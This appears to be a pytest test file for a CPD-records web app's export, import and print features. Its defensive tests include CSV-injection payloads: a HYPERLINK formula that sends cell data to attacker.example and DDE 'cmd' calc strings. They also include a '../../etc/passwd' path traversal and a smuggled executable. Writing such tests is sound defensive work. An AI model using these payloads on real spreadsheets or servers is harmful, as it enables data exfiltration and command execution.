"""Print and keep: print views, "Download all your CPD" and importing it again."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import zipfile
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlmodel import Session, select
from werkzeug.datastructures import MultiDict

from app import uploads
from app.auth.models import User
from app.cpd import page
from app.policy import Policy
from app.records.models import CpdDocument, CpdRecord
from app.uploads.scanning import not_scanned
from tests.conftest import csrf_token_from
from tests.integration.test_cpd_records import structured_answers, unstructured_answers
from tests.support import sample_files

pytestmark = pytest.mark.db


def _with_document(
    db: Session, record: CpdRecord, name: str, data: bytes, explanation: str, policy: Policy
) -> None:
    checked, refusal = uploads.check_document(name, data, policy=policy, scanner=not_scanned)
    assert checked is not None, refusal
    (stored,) = uploads.store(db, record, [checked])
    record.answers = {
        **record.answers,
        "documents": [*record.answers["documents"], {"id": stored.id, "explanation": explanation}],
    }
    db.add(record)
    db.commit()


def _saved(db: Session, user: User, form_type: str, form: dict[str, Any], policy: Policy):
    """CPD saved the way its form page saves it (the one write path), recorded or draft
    as the form's action says."""
    assert user.id is not None
    post = page.read_page_post(MultiDict(form), MultiDict(), form_type=form_type)
    saved = page.save_page(db, owner_id=user.id, post=post, policy=policy, scanner=not_scanned)
    assert saved.record is not None and not saved.problems, saved.problems
    return saved.record


def make_account_with_cpd(db: Session, user: User, policy: Policy) -> None:
    structured = _saved(
        db,
        user,
        "structured",
        # A name its writer said is not a real person (issue 20) goes out and comes back.
        {
            **structured_answers(peer_reflection="Talked it through with Amira, a colleague."),
            "not_people": "Amira",
        },
        policy,
    )
    assert structured.answers["not_people"] == ["Amira"]
    _with_document(db, structured, "certificate.pdf", sample_files.pdf(), "", policy)
    unstructured = _saved(db, user, "unstructured", unstructured_answers(), policy)
    _with_document(
        db, unstructured, "review.docx", sample_files.docx(), "My yearly review.\nPage 2.", policy
    )
    _saved(
        db,
        user,
        "structured",
        structured_answers(title="", what_you_learned="Half a thought", action="draft"),
        policy,
    )


def download_bytes(client: FlaskClient) -> bytes:
    response = client.get("/your-cpd/download")
    assert response.status_code == 200
    assert response.mimetype == "application/zip"
    assert response.is_streamed
    data: bytes = response.get_data()
    return data


def download(client: FlaskClient) -> zipfile.ZipFile:
    return zipfile.ZipFile(io.BytesIO(download_bytes(client)))


def _named(answers: dict[str, Any] | None, by_old_id: dict[int, dict]) -> Any:
    """Answers with each document as its name and explanation instead of its id."""
    if answers is None:
        return None
    return {
        **answers,
        "documents": [
            (by_old_id[item["id"]]["filename"], item["explanation"])
            for item in answers["documents"]
        ],
    }


def comparable(archive: zipfile.ZipFile) -> list[dict[str, Any]]:
    """The records as the person sees them: without ids, times and paths, with each
    document's bytes by hash."""
    export = json.loads(archive.read("records.json"))
    records = []
    for record in export["records"]:
        by_old_id = {d["id"]: d for d in record["documents"]}
        records.append(
            {
                "form_type": record["form_type"],
                "status": record["status"],
                "completed_on": record["completed_on"],
                "answers": _named(record["answers"], by_old_id),
                "draft_changes": _named(record["draft_changes"], by_old_id),
                "documents": sorted(
                    (d["filename"], hashlib.sha256(archive.read(d["path"])).hexdigest())
                    for d in record["documents"]
                ),
            }
        )
    return sorted(records, key=lambda r: json.dumps(r, sort_keys=True))


def import_file(client: FlaskClient, data: bytes, name: str = "your-cpd.zip") -> Any:
    page = client.get("/your-cpd/import").get_data(as_text=True)
    return client.post(
        "/your-cpd/import",
        data={"csrf_token": csrf_token_from(page), "export": (io.BytesIO(data), name)},
        content_type="multipart/form-data",
    )


def test_export_then_import_into_another_account_is_equal(
    signed_in_client: FlaskClient, other_client: FlaskClient, db: Session, user, policy: Policy
) -> None:
    make_account_with_cpd(db, user, policy)
    data = download_bytes(signed_in_client)
    exported = zipfile.ZipFile(io.BytesIO(data))
    names = exported.namelist()
    assert "records.json" in names and "records.csv" in names
    assert any(re.fullmatch(r"summaries/\d{4}-12-01-to-\d{4}-11-30\.html", n) for n in names)
    assert len([n for n in names if n.startswith("documents/")]) == 2

    response = import_file(other_client, data)
    assert response.status_code == 200, response.get_data(as_text=True)
    assert "3 records and 2 documents added" in response.get_data(as_text=True)

    assert comparable(download(other_client)) == comparable(exported)
    assert len(comparable(exported)) == 3


def test_the_csv_and_the_yearly_summary_hold_every_answer_in_full(
    signed_in_client: FlaskClient, db: Session, user, policy: Policy
) -> None:
    make_account_with_cpd(db, user, policy)
    exported = download(signed_in_client)
    rows = list(csv.DictReader(io.StringIO(exported.read("records.csv").decode("utf-8-sig"))))
    assert {row["status"] for row in rows} == {"recorded", "draft"}
    assert any("Talked it through with Amira, a colleague." in row["answers"] for row in rows)
    summary_name = next(n for n in exported.namelist() if n.startswith("summaries/"))
    summary = exported.read(summary_name).decode()
    assert "I now check consent first." in summary
    assert "review.docx" in summary and "My yearly review.\nPage 2." in summary
    assert "4.3 Research, theories and frameworks:" in summary
    assert "Half a thought" not in summary  # drafts are not in a year's summary


def test_print_views_show_every_answer_documents_and_parts(
    signed_in_client: FlaskClient, db: Session, user, policy: Policy
) -> None:
    make_account_with_cpd(db, user, policy)
    record = db.exec(select(CpdRecord).where(CpdRecord.form_type == "structured")).first()
    assert record is not None
    page = signed_in_client.get(f"/your-cpd/{record.id}/print").get_data(as_text=True)
    assert "A day course on the Care Act duties." in page
    assert "Talked it through with Amira, a colleague." in page
    assert "certificate.pdf" in page
    assert "Drawing on research, theories and frameworks to inform your practice." in page
    year = signed_in_client.get("/your-cpd/years/2025/print").get_data(as_text=True)
    assert "Safeguarding adults refresher" in year and "Reading on trauma-informed" in year
    shown = re.search(r"shown this year</h2>(.*?)</ul>", year, re.S)
    assert shown and "4.2 Supervision and reflection" in shown.group(1)
    assert "Not shown this year: 4.1 Using feedback; 4.5" in year
    assert "Half a thought" not in year


def test_print_views_and_the_download_are_the_owners_alone(
    signed_in_client: FlaskClient, other_client: FlaskClient, db: Session, user, policy: Policy
) -> None:
    make_account_with_cpd(db, user, policy)
    record = db.exec(select(CpdRecord)).first()
    assert record is not None
    assert other_client.get(f"/your-cpd/{record.id}/print").status_code == 404
    assert "Safeguarding" not in other_client.get("/your-cpd/years/2025/print").get_data(
        as_text=True
    )
    assert json.loads(download(other_client).read("records.json"))["records"] == []


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _export_json(records: list[dict[str, Any]]) -> bytes:
    return json.dumps({"format": "record-cpd-export", "version": 1, "records": records}).encode()


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        # Plain words, no jargon (issue 23): never "JSON", never a file inside the ZIP.
        (b"not a zip at all", "The file is not a ZIP file"),
        (_zip({"notes.txt": b"hello"}), "This is not a download of your CPD"),
        (_zip({"records.json": b"{not json"}), "The file is damaged: the list of your CPD"),
        (_zip({"records.json": b'{"records": []}'}), "is not a download of your CPD"),
        (
            _zip({"records.json": _export_json([{"form_type": "poem", "status": "recorded"}])}),
            "Record 1: the form is neither the structured nor the unstructured form",
        ),
        (
            _zip(
                {
                    "records.json": _export_json(
                        [
                            {
                                "form_type": "structured",
                                "status": "draft",
                                "answers": {"title": "x", "documents": []},
                                "documents": [
                                    {"id": 1, "filename": "p.txt", "path": "../../etc/passwd"}
                                ],
                            }
                        ]
                    )
                }
            ),
            "Record 1: the document &#39;p.txt&#39; is not in the ZIP file",
        ),
        (
            _zip(
                {
                    "records.json": _export_json(
                        [
                            {
                                "form_type": "structured",
                                "status": "draft",
                                "answers": {"title": "x", "documents": [{"id": 1}]},
                                "documents": [
                                    {"id": 1, "filename": "run.exe", "path": "documents/1/run"}
                                ],
                            }
                        ]
                    ),
                    "documents/1/run": sample_files.EXECUTABLE,
                }
            ),
            "Record 1: run.exe is not a",
        ),
    ],
)
def test_an_import_it_cannot_read_is_refused_whole_with_the_reason(
    signed_in_client: FlaskClient, db: Session, data: bytes, reason: str
) -> None:
    response = import_file(signed_in_client, data)
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    assert "The file could not be imported" in page and "Nothing was imported." in page
    assert reason in page
    assert "JSON" not in page and "records.json" not in page
    assert db.exec(select(CpdRecord)).all() == []
    assert db.exec(select(CpdDocument)).all() == []


def test_an_entry_larger_than_it_claims_is_not_read_past_the_limit(
    app: Flask, signed_in_client: FlaskClient, db: Session, policy: Policy
) -> None:
    big = b"a" * (policy.max_document_bytes + 10)
    record = {
        "form_type": "structured",
        "status": "draft",
        "answers": {"title": "x", "documents": [{"id": 1, "explanation": ""}]},
        "documents": [{"id": 1, "filename": "big.txt", "path": "documents/1/big.txt"}],
    }
    response = import_file(
        signed_in_client, _zip({"records.json": _export_json([record]), "documents/1/big.txt": big})
    )
    assert response.status_code == 400
    assert "big.txt is larger than" in response.get_data(as_text=True)


def test_the_download_is_sent_in_pieces_as_it_is_written(
    signed_in_client: FlaskClient, db: Session, user, policy: Policy
) -> None:
    make_account_with_cpd(db, user, policy)
    response = signed_in_client.get("/your-cpd/download")
    pieces = [piece for piece in response.response if piece]
    # records.json per record, the CSV, a summary, each document: never one big buffer.
    assert len(pieces) >= 6
    assert zipfile.ZipFile(io.BytesIO(b"".join(pieces))).testzip() is None


def test_an_import_larger_than_any_other_form_is_accepted_but_needs_its_csrf_token(
    app: Flask, signed_in_client: FlaskClient, db: Session, user, policy: Policy
) -> None:
    app.config["MAX_CONTENT_LENGTH"] = 1024  # smaller than this export
    make_account_with_cpd(db, user, policy)
    data = download_bytes(signed_in_client)
    assert len(data) > 1024
    response = signed_in_client.post(
        "/your-cpd/import",
        data={"export": (io.BytesIO(data), "your-cpd.zip")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 400
    assert len(db.exec(select(CpdRecord)).all()) == 3
    response = import_file(signed_in_client, data)
    assert response.status_code == 200
    assert "3 records and 2 documents added" in response.get_data(as_text=True)


FORMULAS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def test_the_csv_escapes_formula_cells_and_the_import_keeps_the_text(
    signed_in_client: FlaskClient,
    other_client: FlaskClient,
    db: Session,
    user,
    policy: Policy,
) -> None:
    """OWASP CSV injection: a cell a spreadsheet would run as a formula starts with a
    single quote in records.csv; records.json, which the import reads, is unchanged."""
    for formula in FORMULAS:
        record = _saved(
            db, user, "structured", structured_answers(title=formula, action="draft"), policy
        )
    _with_document(db, record, "=1+2.pdf", sample_files.pdf(), "", policy)
    data = download_bytes(signed_in_client)
    exported = zipfile.ZipFile(io.BytesIO(data))
    rows = list(csv.DictReader(io.StringIO(exported.read("records.csv").decode("utf-8-sig"))))
    assert sorted(row["title"] for row in rows) == sorted("'" + f for f in FORMULAS)
    assert "'=1+2.pdf" in [row["documents"] for row in rows]
    for row in rows:
        for value in row.values():
            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), value

    response = import_file(other_client, data)
    assert response.status_code == 200, response.get_data(as_text=True)
    assert comparable(download(other_client)) == comparable(exported)
    titles = {r["answers"]["title"] for r in json.loads(exported.read("records.json"))["records"]}
    assert titles == set(FORMULAS)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("A plain title", "A plain title"),
        ("", ""),
        ("1-2", "1-2"),
    ],
)
def test_a_csv_cell_that_could_be_a_formula_starts_with_a_quote(value: str, written: str) -> None:
    from app.keep.archive import csv_cell

    assert csv_cell(value) == written
